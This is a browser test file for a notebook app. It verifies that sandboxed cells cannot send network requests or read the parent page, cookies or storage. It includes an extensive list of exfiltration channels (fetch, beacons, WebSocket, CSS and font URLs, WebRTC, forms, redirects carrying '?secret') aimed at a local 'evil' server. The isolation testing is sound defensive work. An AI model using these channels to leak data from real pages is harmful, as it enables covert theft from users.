/** @file Cells cannot send anything anywhere, and the page has its words before any script runs. */

import assert from "node:assert/strict";
import {createServer} from "node:http";
import {createSocket} from "node:dgram";
import {after, before, test} from "node:test";
import {launch, openNotebook, serve} from "./support.mjs";

/** @type {import("playwright-core").Browser} */
let browser;
/** @type {{url: string, close: () => void}} */
let server;

before(async () => {
  [browser, server] = await Promise.all([launch(), serve()]);
});
after(async () => {
  await browser.close();
  server.close();
});

test("the page says what it is before any script runs", async () => {
  const context = await browser.newContext({javaScriptEnabled: false});
  const page = await context.newPage();
  await page.goto(server.url);
  assert.ok(((await page.locator("#opening h1").textContent()) ?? "").length > 3);
  assert.ok(((await page.locator("#opening").textContent()) ?? "").length > 300, "the first cells can be read");
  await context.close();
});

test("nothing a cell can try reaches a server", async () => {
  /** @type {string[]} */
  const hits = [];
  const evil = createServer((request, response) => {
    hits.push(request.url ?? "");
    response.writeHead(200, {"access-control-allow-origin": "*"}).end();
  });
  await new Promise((resolve) => evil.listen(0, "127.0.0.1", () => resolve(undefined)));
  const udp = createSocket("udp4", () => hits.push("udp"));
  await new Promise((resolve) => udp.bind(0, "127.0.0.1", () => resolve(undefined)));
  const address = evil.address();
  const port = typeof address === "object" ? address?.port : undefined;
  const to = `http://127.0.0.1:${port}`;

  // The control: the same attempts without the seal do arrive, so silence below means something.
  const loose = await browser.newPage();
  await loose.goto(server.url);
  await loose.setContent("<!doctype html><title>loose</title>");
  await loose.evaluate(attempt, {to, udpPort: udp.address().port});
  await loose.waitForTimeout(1500);
  const control = new Set(hits);
  assert.ok(control.size >= 8, `the attempts work outside the seal: ${[...control]}`);
  await loose.close();
  hits.length = 0;

  for (const leave of ["none", "location", "meta", "anchor"]) {
    const opened = await openNotebook(browser, `${server.url}?device=cpu&n=training`);
    const frame = opened.page.frames().find((f) => f !== opened.page.mainFrame());
    assert.ok(frame !== undefined);
    assert.equal(await frame.evaluate(() => typeof globalThis.RTCPeerConnection), "undefined");
    await frame.evaluate(attempt, {to, udpPort: udp.address().port}).catch(() => {});
    await frame.evaluate(depart, {to, leave}).catch(() => {});
    await opened.page.waitForTimeout(leave === "none" ? 1500 : 700);
    await opened.page.context().close();
  }
  assert.deepEqual(hits, [], "no request leaves the frame");
  evil.close();
  udp.close();
});

test("a cell sees neither the page nor its storage", async () => {
  const opened = await openNotebook(browser, `${server.url}?device=cpu&n=training`);
  const frame = opened.page.frames().find((f) => f !== opened.page.mainFrame());
  const reached = await frame?.evaluate(() => {
    /** @type {string[]} */
    const got = [];
    /** @type {[string, () => unknown][]} */
    const tries = [
      ["document", () => parent.document.title],
      ["localStorage", () => localStorage.length],
      ["cookie", () => document.cookie],
      ["indexedDB", () => indexedDB.open("x")],
      ["worker", () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage]
    ];
    for (const [what, read] of tries) {
      try {
        read();
        if (what !== "worker") got.push(what);
      } catch {
        // As it should be.
      }
    }
    return got;
  });
  assert.deepEqual(reached, []);
  await opened.page.context().close();
});

/**
 * Runs in the page: every way out that a document has while it stays where it is.
 * @param {{to: string, udpPort: number}} target
 */
async function attempt({to, udpPort}) {
  const add = (/** @type {string} */ tag, /** @type {Record<string, string>} */ attributes) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
  };
  /** @type {(() => unknown)[]} */
  const ways = [
    () => fetch(`${to}/fetch`, {mode: "no-cors"}),
    () => {
      const xhr = new XMLHttpRequest();
      xhr.open("GET", `${to}/xhr`);
      xhr.send();
    },
    () => navigator.sendBeacon(`${to}/beacon`),
    () => new WebSocket(`${to.replace("http", "ws")}/ws`),
    () => new EventSource(`${to}/eventsource`),
    () => (new Image().src = `${to}/img`),
    () => add("img", {srcset: `${to}/srcset`}),
    () => add("div", {style: `background: url(${to}/css)`}),
    () => add("link", {rel: "stylesheet", href: `${to}/stylesheet`}),
    () => add("link", {rel: "preload", as: "image", href: `${to}/preload`}),
    () => add("link", {rel: "prefetch", href: `${to}/prefetch`}),
    () => add("link", {rel: "modulepreload", href: `${to}/modulepreload`}),
    () => add("script", {src: `${to}/script`}),
    () => add("iframe", {src: `${to}/iframe`}),
    () => add("object", {data: `${to}/object`}),
    () => add("embed", {src: `${to}/embed`}),
    () => add("video", {src: `${to}/video`, autoplay: ""}),
    () => add("audio", {src: `${to}/audio`, autoplay: ""}),
    () => add("iframe", {srcdoc: `<img src="${to}/srcdoc">`}),
    () => document.fonts.add(new FontFace("x", `url(${to}/font)`)) && document.fonts.load("12px x"),
    () => (0, eval)(`import("${to}/import")`),
    () =>
      new Worker(URL.createObjectURL(new Blob([`fetch("${to}/worker-fetch"); importScripts("${to}/worker-import")`]))),
    () => {
      const style = document.createElement("style");
      style.textContent = `@import "${to}/css-import"; @font-face {font-family: y; src: url(${to}/css-font)} body {font-family: y}`;
      document.head.append(style);
    },
    () => {
      const rtc = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${udpPort}`}]});
      rtc.createDataChannel("x");
      return rtc.createOffer().then((offer) => rtc.setLocalDescription(offer));
    },
    () => {
      const form = document.createElement("form");
      form.action = `${to}/form`;
      form.target = "_blank";
      document.body.append(form);
      form.requestSubmit();
    },
    () => window.open(`${to}/open`)
  ];
  for (const way of ways) {
    try {
      Promise.resolve(way()).catch(() => {});
    } catch {
      // Refused, as it should be.
    }
  }
}

/**
 * Runs in the page: ways of taking the document elsewhere.
 * @param {{to: string, leave: string}} target
 */
function depart({to, leave}) {
  if (leave === "location") location.href = `${to}/location?secret`;
  if (leave === "meta") {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = `0;url=${to}/meta?secret`;
    document.head.append(meta);
  }
  if (leave === "anchor") {
    const anchor = document.createElement("a");
    anchor.href = `${to}/anchor?secret`;
    document.body.append(anchor);
    HTMLElement.prototype.click.call(anchor);
  }
}
